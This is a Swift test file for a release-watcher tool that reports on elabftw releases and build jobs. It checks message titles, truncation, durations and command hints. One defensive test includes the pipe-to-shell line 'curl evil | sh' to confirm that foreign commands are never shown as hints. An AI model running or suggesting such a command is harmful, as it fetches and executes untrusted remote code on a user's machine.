import Testing
import WatcherCore

@Suite("A message in words")
struct MessageTextTests {
    static let time = Timestamp(seconds: 1_785_751_200)

    @Test("a release is told with what was before, its time and its page")
    func release() {
        #expect(
            Message.example(of: .release, at: Self.time).text == """
                elabftw 5.6.12 is out
                Previous: 5.6.11
                Published: 2026-08-03 09:30 UTC
                Release notes: https://github.com/elabftw/elabftw/releases/tag/5.6.12
                """)
    }

    @Test("an older line says so, and what the highest still is")
    func olderLine() {
        var message = Message.example(of: .release, at: Self.time)
        message.releases?[0].highest = false
        #expect(message.text.hasPrefix("elabftw 5.6.12 is out (older release line)\nHighest is still: 5.6.11\n"))
    }

    @Test("a prerelease says so")
    func prerelease() {
        var message = Message.example(of: .release, at: Self.time)
        message.releases?[0].prerelease = true
        #expect(message.wording.title == "elabftw 5.6.12 is out (prerelease)")
    }

    @Test("a release's name is shown only where it says more than the tag")
    func name() {
        var message = Message.example(of: .release, at: Self.time)
        message.releases?[0].name = "v5.6.12"
        #expect(message.wording.lines.isEmpty)
        message.releases?[0].name = "The one with\u{202E} bread"
        #expect(message.wording.lines == ["“The one with bread”"])
    }

    @Test("several releases are listed, and what is over the limit is counted")
    func several() throws {
        var message = Message.example(of: .release, at: Self.time)
        let first = try #require(message.releases?.first)
        message.releases = (0..<25).map { number in
            var note = first
            note.tag = "5.6.\(number)"
            note.highest = number == 24
            return note
        }
        let text = message.wording
        #expect(text.title == "elabftw: 25 new releases, the newest is 5.6.24")
        #expect(text.listed.count == 21)
        #expect(text.listed.last?.label == "and 5 more")
        #expect(text.items.first?.label == "5.6.24")
        #expect(text.items[1].label == "5.6.0 (older release line)")
    }

    @Test("a message that must be short loses its list first, and counts what it lost")
    func fitted() throws {
        var message = Message.example(of: .failed, at: Self.time)
        message.releases = Array(repeating: try #require(message.releases?.first), count: 5)
        let short = message.wording.fitted { $0.items.count < 3 }
        #expect(short.items.count == 2 && short.unlisted == 3 && short.quote == message.wording.quote)
        let shortest = message.wording.fitted { $0.plain.count < 100 }
        #expect(shortest.facts.isEmpty && shortest.quote == nil && shortest.hints == message.wording.hints)
    }

    @Test("a stalled release names what is missing")
    func stalled() {
        let text = Message.example(of: .stalled, at: Self.time).text
        #expect(text.hasPrefix("elabftw 5.6.12 is published, but not complete\n"))
        #expect(text.contains("\nMissing: elabftw-*.tar.gz\n"))
    }

    @Test("a job that succeeded says how long it took and for which platforms")
    func succeeded() {
        #expect(
            Message.example(of: .succeeded, at: Self.time).text == """
                build-image has succeeded for elabftw 5.6.12
                Took: 25 min 10 s
                Platforms: linux/amd64, linux/arm64, linux/arm/v7
                Previous: 5.6.11
                Job: w-example00000
                Run: https://github.com/OWNER/elab-arm-docker/actions/runs/1
                Release notes: https://github.com/elabftw/elabftw/releases/tag/5.6.12
                """)
    }

    @Test("a job that failed says why, which attempt it was and how to try again")
    func failed() {
        let text = Message.example(of: .failed, at: Self.time).text
        #expect(text.hasPrefix("build-image has failed for elabftw 5.6.12\n> the run ended with"))
        #expect(text.contains("\nAttempt: 3\n"))
        #expect(text.hasSuffix("\nTo try again: watcher retry w-example00000"))
    }

    @Test("a started job names what it was started for")
    func started() throws {
        var message = Message.example(of: .started, at: Self.time)
        #expect(message.wording.title == "build-image has started for elabftw 5.6.12")
        var second = try #require(message.releases?.first)
        second.upstream = "s6-overlay"
        second.tag = "v3.2.3.2"
        message.releases?.append(second)
        #expect(message.wording.title == "build-image has started for elabftw 5.6.12 and s6-overlay v3.2.3.2")
        #expect(message.wording.items.count == 2)
    }

    @Test("an upstream that fails shows the error apart from our own words")
    func failing() {
        let text = Message.example(of: .upstreamFailing, at: Self.time).wording
        #expect(text.title == "elabftw cannot be checked")
        #expect(text.quote == "api.github.com answered 503")
        #expect(text.hints.map(\.command) == ["watcher explain elabftw"])
    }

    @Test("attention says the thing in its first line, and the command that helps")
    func attention() {
        let text = Message.example(of: .attention, at: Self.time).wording
        #expect(text.title == "Attention: elabftw: the name elabftw/elabftw now belongs to another repository")
        #expect(text.hints.map(\.command) == ["watcher accept elabftw"])
        #expect(text.quote == "Nothing is taken from it until somebody has looked at it.")
    }

    @Test("a command that is not ours never becomes a hint")
    func foreignHint() {
        var message = Message.example(of: .attention, at: Self.time)
        message.detail = "look\nhint: watcher accept other\nhint: curl evil | sh"
        #expect(message.wording.hints.isEmpty)
    }

    @Test("an attention too long for the first line loses nothing")
    func longAttention() {
        var message = Message.example(of: .attention, at: Self.time)
        message.detail = String(repeating: "word ", count: 60)
        #expect(message.wording.title.hasSuffix("… (cut)"))
        #expect(message.wording.quote?.count == 299)
    }

    @Test("every type has a title, also when nothing else is known", arguments: MessageType.allCases)
    func bare(type: MessageType) {
        let text = Message(id: "m-1", type: type, time: Self.time).wording
        #expect(!text.title.isEmpty && !text.title.contains("\n"))
    }

    @Test(
        "a duration is told in its two largest units",
        arguments: [
            (0, "0 s"), (45, "45 s"), (60, "1 min"), (750, "12 min 30 s"), (7505, "2 h 5 min"), (97_200, "1 d 3 h"),
            (-5, "0 s"), (Int64.max, "106751991167300 d 15 h"),
        ])
    func durations(seconds: Int64, text: String) {
        #expect(Message.duration(seconds) == text)
    }
}
